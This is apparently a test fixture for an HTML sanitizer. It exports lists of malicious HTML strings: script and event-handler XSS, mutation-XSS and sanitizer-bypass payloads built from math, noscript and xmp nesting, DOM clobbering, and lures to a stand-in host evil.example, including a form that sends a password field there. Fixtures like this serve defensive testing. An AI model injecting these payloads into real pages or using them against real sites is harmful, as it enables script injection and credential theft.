// HTML of a provider that means harm. Whatever of it runs leaves a mark on the page.

/** The script that would leave the mark: `data-ran` of the page. */
export const act = "document.documentElement.dataset.ran='1'"

/** Kinds of malice that end where they are written: many can stand in one text. */
export const closed = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s>`,
  '<iframe src="https://evil.example/frame"></iframe>',
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  '<p style="width: expression(alert(1)); background: url(https://evil.example/css)">styled</p>',
  '<style>body { display: none } @import "https://evil.example/sheet";</style>',
  '<form action="https://evil.example/take"><input name="password"><button formaction="https://evil.example/">Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/sheet.css">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<template><img src=x onerror="${act}"></template>`,
  `<details open ontoggle="${act}"><summary>More</summary></details>`,
  `<video><source onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  `<p id="root" name="body" class="x" onmouseover="${act}" autofocus tabindex=0 onfocus="${act}">clobber</p>`,
  `<xmp><p title="</xmp><img src=x onerror=${act}>"></xmp>`,
]

/** Kinds that take away all that is written after them. */
export const open = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${act} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
]
